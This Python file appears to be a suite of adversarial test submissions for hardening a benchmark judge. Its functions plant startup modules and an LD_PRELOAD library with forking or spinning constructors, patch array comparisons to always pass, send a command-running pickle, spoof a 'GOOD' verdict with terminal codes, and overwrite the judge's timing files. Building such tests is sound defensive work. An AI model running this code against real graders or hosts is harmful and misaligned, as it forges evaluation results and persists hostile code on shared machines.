"""Leave files, modules, variables and messages that work for it elsewhere."""

import builtins
import ctypes
import gc
import importlib.abc
import json
import os
import pickle
import socket
import stat
import struct
import subprocess
import sys
import threading
import time

EVIL = "import os, time\nos.environ['EVIL'] = '1'\ntime.sleep(600)\n"
C_TEXT = """
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void first(void) { %s }
int nothing(void) { return 0; }
"""
shared = {}


def pipe():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.stat(int(name)).st_mode):
                found = socket.socket(fileno=os.dup(int(name)))
                found.setblocking(True)
                return found
        except OSError:
            pass
    raise OSError("no socket")


def build(action):
    with open("/tmp/evil.c", "w") as file:
        file.write(C_TEXT % action)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", "/tmp/evil.so", "/tmp/evil.c"], check=True)
    return ctypes.CDLL("/tmp/evil.so")


@family.cpu("customizes_the_site")
def customizes_the_site(problem, tune, inputs, outputs):
    """Write modules that each Python imports at its start, wherever that may be."""
    for folder in (*sys.path, os.path.expanduser("~"), os.getcwd(), "/tmp", sys.prefix):
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "numpy.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(EVIL)
            except OSError:
                pass
    return lambda: None


@family.cpu("preloads_a_library")
def preloads_a_library(problem, tune, inputs, outputs):
    """Set variables that other programs heed."""
    build("")
    os.environ |= {"LD_PRELOAD": "/tmp/evil.so", "PYTHONSTARTUP": "/tmp/evil.py", "PYTHONPATH": "/tmp"}
    with open("/proc/self/environ", "rb") as file:
        kept = file.read()
    return lambda: kept


@family.cpu("constructor_forks")
def constructor_forks(problem, tune, inputs, outputs):
    """Load a library whose constructor leaves a process and goes on for ever there."""
    build("if (fork() == 0) { setsid(); for (;;) pause(); }")
    return lambda: None


@family.cpu("constructor_spins")
def constructor_spins(problem, tune, inputs, outputs):
    """Load a library whose constructor never ends, with the interpreter's lock released."""
    build("for (;;) ;")
    return lambda: None


@family.cpu("constructor_exits")
def constructor_exits(problem, tune, inputs, outputs):
    """Load a library that ends the process as if all were done."""
    build("_exit(0);")
    return lambda: None


@family.cpu("imports_replaced")
def imports_replaced(problem, tune, inputs, outputs):
    """Put a finder of its own before all others."""

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name.startswith("cuprof"):
                raise SystemExit(0)

    sys.meta_path.insert(0, Finder())
    for name in [name for name in sys.modules if name.startswith("cuprof")]:
        del sys.modules[name]
    return lambda: None


@family.cpu("numpy_replaced")
def numpy_replaced(problem, tune, inputs, outputs):
    """Replace what compares arrays, in its own process."""
    np.array_equal = np.allclose = lambda *_, **__: True
    builtins.all = lambda *_: True
    return lambda: None


@family.cpu("objects_of_the_collector")
def objects_of_the_collector(problem, tune, inputs, outputs):
    """Change every layout and task that the collector knows."""
    for found in gc.get_objects():
        if type(found).__name__ in ("Place", "Layout", "Task"):
            for key in list(vars(found)):
                object.__setattr__(found, key, 0)
    return lambda: None


@family.cpu("size_that_wraps")
def size_that_wraps(problem, tune, inputs, outputs):
    """Announce sizes at which a 32-bit sum wraps, and send their text."""
    own = pipe()
    for size in (0xFFFFFFFB, 0x80000000, 0x100001, 0):
        own.sendall(b"e" + struct.pack("<I", size) + b'{"state": "skipped", "message": "x"}')
    return lambda: None


@family.cpu("text_of_exactly_a_megabyte")
def text_of_exactly_a_megabyte(problem, tune, inputs, outputs):
    """Send the largest message that is allowed, and then another one."""
    own, head = pipe(), b'{"state": "skipped", "message": "'
    text = head + b"x" * ((1 << 20) - len(head) - 2) + b'"}'
    for _ in range(2):
        own.sendall(b"e" + struct.pack("<I", len(text)) + text)
    return lambda: None


@family.cpu("a_byte_a_second")
def a_byte_a_second(problem, tune, inputs, outputs):
    """Send a message so slowly that each byte comes in time."""
    own, text = pipe(), b'{"state": "skipped", "message": "x"}'
    for byte in b"e" + struct.pack("<I", len(text)) + text:
        own.sendall(bytes([byte]))
        time.sleep(0.3)
    time.sleep(600)


@family.cpu("pickled_refusal")
def pickled_refusal(problem, tune, inputs, outputs):
    """Send a pickle that runs a program where it is loaded."""

    class Evil:
        def __reduce__(self):
            return os.system, ("touch /tmp/evil",)

    own, text = pipe(), pickle.dumps(Evil())
    own.sendall(b"e" + struct.pack("<I", len(text)) + text)
    return lambda: None


@family.cpu("numbers_without_end")
def numbers_without_end(problem, tune, inputs, outputs):
    """Refuse with a number of half a million digits."""
    own, text = pipe(), b'{"state": ' + b"9" * 500_000 + b"}"
    own.sendall(b"e" + struct.pack("<I", len(text)) + text)
    return lambda: None


@family.cpu("terminal_codes")
def terminal_codes(problem, tune, inputs, outputs):
    """Raise an error whose text moves the cursor, sets the title and paints a ruling."""
    raise ValueError("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[32mGOOD\x1b[0m \u202e\u2066 \x00\x08")


@family.cpu("GOOD")
def named_good(problem, tune, inputs, outputs):
    """Have the name of a ruling."""
    return lambda: None


@family.cpu("skipped_by_itself")
def skipped_by_itself(problem, tune, inputs, outputs):
    """Say that a module is missing once the check has passed."""
    count = []

    def run():
        count.append(1)
        right(inputs, outputs)
        if len(count) > 3:
            raise ModuleNotFoundError("no_such_module")

    return run


@family.cpu("passes_descriptors")
def passes_descriptors(problem, tune, inputs, outputs):
    """Send descriptors with its answers, until the judge has no room for any more."""
    own = pipe()
    handles = [os.open("/dev/null", os.O_RDONLY) for _ in range(64)]
    for _ in range(32):
        socket.send_fds(own, [b"d"], handles)
    return lambda: None


@family.cpu("shuts_one_direction")
def shuts_one_direction(problem, tune, inputs, outputs):
    """Read requests no longer, and go on answering."""
    own = pipe()
    own.shutdown(socket.SHUT_RD)

    def answer():
        while True:
            own.sendall(b"d")
            time.sleep(0.01)

    threading.Thread(target=answer, daemon=True).start()
    return lambda: None


@family.cpu("datagrams")
def datagrams(problem, tune, inputs, outputs):
    """Reach sockets of others by datagrams, which need no connection."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as own:
        for path in ("/run/systemd/journal/socket", "/dev/log", "/run/systemd/notify", "\0evil"):
            try:
                own.sendto(b"x", path)
            except OSError:
                pass
    return lambda: None


@family.cpu("writes_the_engine_s_database")
def writes_the_engine_s_database(problem, tune, inputs, outputs):
    """Look for the judge's own files and write a better time into them."""
    for folder, _, names in os.walk("/tmp"):
        for name in names:
            if ".sqlite" in name or name.endswith(".json"):
                with open(os.path.join(folder, name), "r+b") as file:
                    file.write(json.dumps({"median_ns": 1}).encode())
    return lambda: None
